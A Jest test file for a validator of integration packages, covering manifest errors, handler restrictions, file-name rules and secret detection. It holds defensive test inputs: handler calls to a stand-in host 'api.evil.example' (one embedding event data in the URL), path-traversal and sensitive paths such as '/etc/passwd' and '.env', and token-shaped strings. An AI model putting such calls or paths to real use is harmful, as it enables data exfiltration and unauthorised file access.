import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from '@jest/globals';
import { parseCases } from '#src/integrations/package/cases.ts';
import { checkPackage } from '#src/integrations/package/check.ts';
import { contentHash } from '#src/integrations/package/content-hash.ts';
import { problemText } from '#src/integrations/package/problem.ts';
import { readPackageFolder } from '#src/integrations/package/read-folder.ts';

const BUNDLED = fileURLToPath(new URL('../../../integrations/', import.meta.url));
const YAML = 'name: demo\nversion: 1.0.0\nsource: github\nactions: [slack_send_message]\n';
const HANDLER =
  "export default { name: 'demo', async handle(event, context) { await context.slack.send('x', '#y'); return { status: 'success' } } }";

async function said(files: Record<string, string>): Promise<string> {
  const { problems } = await checkPackage({ 'integration.yaml': YAML, ...files });
  return problems.map(problemText).join('\n');
}

describe.each(readdirSync(BUNDLED))('the bundled package %s', (name) => {
  test('has no problem, has cases, and is called like its folder', async () => {
    const { files } = await readPackageFolder(`${BUNDLED}${name}`);
    const { manifest, problems } = await checkPackage(files);
    expect(problems).toEqual([]);
    expect(manifest?.name).toBe(name);
    expect((await parseCases(files)).length).toBeGreaterThan(2);
    expect(files['README.md']).toBeDefined();
  });
});

test('a small package is sound, with and without a handler', async () => {
  expect(await said({})).toBe('');
  expect(await said({ 'handler.ts': HANDLER })).toBe('');
  expect(await said({ 'handler.js': HANDLER.replace('export default', 'module.exports =') })).toBe('');
});

test('templates of files are those of the manifest, which wins', async () => {
  const { manifest } = await checkPackage({
    'integration.yaml': `${YAML}message_templates: {issue_opened: from yaml}\n`,
    'templates/issue_opened.hbs': 'from file\n',
    'templates/push.hbs': 'pushed\n',
  });
  expect(manifest?.message_templates).toEqual({ issue_opened: 'from yaml', push: 'pushed' });
});

describe('the manifest', () => {
  const yaml = (more: string): Promise<string> =>
    said({ 'integration.yaml': YAML.replace('actions: [slack_send_message]\n', '') + more });

  test('actions that the catalogue lacks are a dependency conflict', async () => {
    const { problems } = await checkPackage({
      'integration.yaml':
        'name: demo\nversion: 1.0.0\nsource: github\nactions: [slack_send_mesage, slack_send_message@2.0.0, "slack_add_reaction@^1.0.0"]\n',
    });
    expect(problems).toHaveLength(2);
    expect(problems[0]).toMatchObject({
      line: 4,
      path: 'actions.0',
      code: 'dependency_conflict',
      details: { error: 'Dependency conflict detected', conflicts: ['slack_send_mesage', 'slack_send_message@2.0.0'] },
    });
    expect(problems.map((problem) => problem.remedy).join()).toMatch(
      /Did you mean "slack_send_message".*has slack_send_message@1.0.0/,
    );
  });

  test.each([
    ['nothing to do', '', /Nothing is granted/],
    ['a source that sends nothing', 'actions: [slack_send_message]\nsource2: x\n', /source2/],
    ['an event misspelled', 'events: [issue.opened]\nactions: [slack_send_message]\n', /Did you mean "issues.opened"/],
    ['a condition that cannot be read', 'actions: [slack_send_message]\nconditions: ["priority == "]\n', /conditions/],
    [
      'a condition of a rule',
      'actions: [slack_send_message]\nrouting_rules: [{condition: "a ="}]\n',
      /yaml:5 \(routing_rules\.0\.condition\)/,
    ],
    [
      'a template that does not compile',
      'actions: [slack_send_message]\nmessage_templates: {push: "{{#if x}}"}\n',
      /message_templates\.push/,
    ],
    ['one template for all', 'actions: [slack_send_message]\nmessage_template: "{{"\n', /message_template/],
    [
      'a rule with a template that is not there',
      'actions: [slack_send_message]\nrouting_rules: [{template: urgent}]\n',
      /templates\/urgent\.hbs/,
    ],
    [
      'a rule with an action not granted',
      'actions: [slack_send_message]\nrouting_rules: [{action: github_comment}]\n',
      /github_comment is not granted/,
    ],
    [
      'a field that the action lacks',
      'actions: [{id: slack_send_message, with: {chanel: x}}]\n',
      /Did you mean "channel"/,
    ],
    [
      'a field of a rule',
      'actions: [slack_send_message]\nrouting_rules: [{with: {txt: x}}]\n',
      /routing_rules\.0\.with\.txt/,
    ],
    [
      'a template inside "with"',
      'actions: [{id: slack_send_message, with: {text: "{{#each}}"}}]\n',
      /actions\.0\.with\.text/,
    ],
    [
      'settings that are no object',
      'actions: [slack_send_message]\nconfig_schema: {type: string}\n',
      /must be "object"/,
    ],
    [
      'a wrong type',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {a: {type: text}}}\n',
      /properties\.a\.type/,
    ],
    [
      'an unknown keyword',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {a: {$ref: "#"}}}\n',
      /\$ref/,
    ],
    [
      'a default that does not fit',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {a: {type: integer, default: x}}}\n',
      /default/,
    ],
    [
      'a required setting that is not there',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {}, required: [a]}\n',
      /"a"/,
    ],
    [
      'a pattern that looks around',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {a: {type: string, pattern: "^(?=(a|aa)+$)b"}}}\n',
      /cannot be used/,
    ],
    [
      'a pattern that is none',
      'actions: [slack_send_message]\nconfig_schema: {type: object, properties: {a: {type: string, pattern: "("}}}\n',
      /regular expression/,
    ],
  ])('%s', async (_name, more, sentence) => {
    expect(await yaml(more)).toMatch(sentence);
  });

  test('an unknown source is answered with what there is', async () => {
    expect(await said({ 'integration.yaml': YAML.replace('github', 'githb') })).toMatch(/Did you mean "github"/);
    expect(await said({ 'integration.yaml': YAML.replace('github', 'prestashop') })).toMatch(
      /write source: webhook with "verify"/,
    );
  });

  test.each([
    ['custom', /Write source: webhook, and under "verify"/],
    ['schedule', /let a scheduler post to source: webhook/],
    ['github_actions', /"github_actions" sends no events that we know/],
  ])('the source %s, from which nothing could arrive, is refused with what to write', async (source, remedy) => {
    expect(await said({ 'integration.yaml': YAML.replace('github', source) })).toMatch(remedy);
  });
});

describe('the handler', () => {
  const handler = (body: string): Promise<string> =>
    said({ 'handler.ts': `export default { async handle(event: { data: unknown }, context: any) {\n${body}\n} }` });

  test.each([
    ['an import', "import fs from 'node:fs';\n", /imports nothing/],
    ['a require', "const fs = require('fs');\n", /imports nothing/],
    ['a dynamic import', "await import('x');\n", /imports nothing/],
    ['a re-export', "export * from './x.js';\n", /imports nothing/],
  ])('%s', async (_name, line, sentence) => {
    expect(await said({ 'handler.ts': `${line}${HANDLER}` })).toMatch(sentence);
    expect(await said({ 'handler.ts': `${line}${HANDLER}` })).toMatch(/handler\.ts:1/);
  });

  test.each([
    [
      'a service that is not granted',
      'context.jira.createIssue({})',
      /handler\.ts:2: context\.jira is not granted.*Add an action of jira/,
    ],
    ['optional chaining', 'context?.jira?.createIssue({})', /context\.jira/],
    ['a method that is not granted', 'context.slack.uploadFile({})', /context\.slack\.uploadFile is not granted.*send/],
    ['a slip', 'context.slak.send({})', /Did you mean "slack"/],
    ['a host', "await context.http.get('https://api.evil.example/x')", /api\.evil\.example.*hosts/],
    [
      'a host in a template text',
      `await context.http.get(\`https://api.evil.example/\${event.data}\`)`,
      /api\.evil\.example/,
    ],
    ['a syntax error', 'const x: = 1', /cannot be read/],
    ['an enum', '} }\nenum A { B }\nconst o = { a() {', /enum/],
  ])('%s', async (_name, body, sentence) => {
    expect(await handler(body)).toMatch(sentence);
  });

  test.each([
    [
      'granted calls',
      "await context.slack.send('a', '#b'); await context.slack.sendMessage({ channel: 'c', text: 'd' });",
    ],
    [
      'what context always has',
      'context.log.info(context.config.x); await context.database.save(1); context.cache; context.render("x"); context.http;',
    ],
    [
      'words in texts and comments',
      '/* context.jira.x() import x from y */ const a = "context.jira.x()"; // require(1)\nconst r = /context.jira.x`"/; return a + r',
    ],
    ['a division', 'const a = 4 / 2 / 1; const s = "context.jira"; return a'],
    ['a type import', "const x = 1 as unknown as import('x').Y;"],
  ])('%s are fine', async (_name, body) => {
    expect(await handler(body)).toBe('');
  });

  test('the second parameter may be called anything, and may be taken apart', async () => {
    const own = (parameters: string, body: string) =>
      said({ 'handler.ts': `export default { handle: async (${parameters}) => { ${body} } }` });
    expect(await own('event, ctx', 'ctx.jira.x()')).toMatch(/context\.jira/);
    expect(await own('event, ctx', 'ctx.slack.send(1)')).toBe('');
    expect(await own('event, { slack, log }', 'log.info(1); slack.send(1)')).toBe('');
    expect(await own('event, { slack, jira }', 'jira.x()')).toMatch(/context\.jira/);
    expect(await own('event, { slack }', 'slack.fly()')).toMatch(/slack\.fly/);
  });

  test('hosts of the manifest may be named', async () => {
    const files = { 'integration.yaml': `${YAML}hosts: [api.example.com, "*.other.example"]\n` };
    const body =
      "export default { handle(e, context) { return ['https://api.example.com/x', 'https://a.other.example', 'https://other.example'] } }";
    expect(await said({ ...files, 'handler.ts': body })).toMatch(/^[^\n]*host other\.example[^\n]*$/);
  });

  test('no function, two handlers', async () => {
    expect(await said({ 'handler.ts': 'export default {}' })).toMatch(/no function "handle"/);
    expect(await said({ 'handler.ts': HANDLER, 'handler.js': HANDLER })).toMatch(/Keep one/);
  });

  test('code nested without end is refused, and later code is still read', async () => {
    for (const deep of ['('.repeat(100_000), '`${'.repeat(50_000), 'a=>'.repeat(50_000)]) {
      expect(await said({ 'handler.ts': deep })).toMatch(/cannot be read/);
    }
    expect(await said({ 'handler.ts': `${HANDLER} ${'a/'.repeat(50_000)}1` })).toEqual(expect.any(String));
    expect(await said({ 'handler.ts': 'x'.repeat(300_000) })).toMatch(/256 KB/);
    expect(await said({ 'handler.ts': HANDLER })).toBe('');
  });
});

describe('the files', () => {
  test.each([
    ['../x.ts', /not allowed/],
    ['/etc/passwd', /not allowed/],
    ['a//b', /not allowed/],
    ['templates/../x.hbs', /not allowed/],
    ['.env', /not allowed/],
    ['templates/.x.hbs', /not allowed/],
    ['имя.md', /not allowed/],
    ['run.sh', /no such file/],
    ['templates/x.txt', /no such file/],
    ['package.json', /no such file/],
  ])('%s', async (path, sentence) => {
    expect(await said({ [path]: 'x' })).toMatch(sentence);
  });

  test('too many, too large, not text, no manifest', async () => {
    const many = Object.fromEntries(Array.from({ length: 101 }, (_, index) => [`templates/${index}.hbs`, 'x']));
    expect(await said(many)).toMatch(/102 files/);
    expect(await said({ 'README.md': 'я'.repeat(600_000) })).toMatch(/bytes/);
    expect(await said({ 'README.md': 'a\0b' })).toMatch(/not text/);
    expect(await checkPackage({ 'README.md': 'x' })).toMatchObject({
      manifest: null,
      problems: [{ message: 'It is missing.' }],
    });
  });

  test('a template of a file that does not compile is named by its file', async () => {
    expect(await said({ 'templates/push.hbs': '{{#if' })).toMatch(/templates\/push\.hbs/);
  });

  test('a real token is found in any file and not repeated, an example is left alone', async () => {
    const token = 'xoxb-123456789012-abcdefABCDEF';
    expect(await said({ 'README.md': `token ${token}` })).toMatch(/README\.md:1: There is a secret/);
    expect(await said({ 'README.md': `token ${token}` })).not.toContain(token);
    expect(await said({ 'fixtures/x.json': '{"a":"ghp_abcdefghij0123456789abcdefghij012345"}' })).toMatch(/secret/);
    expect(await said({ 'README.md': 'xoxb-your-slack-token, ghp_your-github-token' })).toBe('');
  });
});

test('the hash follows content and names, not order', () => {
  const files = { a: '1', b: '2' };
  expect(contentHash(files)).toBe(contentHash({ b: '2', a: '1' }));
  expect(contentHash(files)).toMatch(/^[0-9a-f]{64}$/);
  const others = [{ a: '1', b: '3' }, { a: '1', c: '2' }, { a: '12', b: '' }, { a: '1' }, { ab: '12' }];
  expect(new Set([files, ...others].map(contentHash)).size).toBe(6);
});
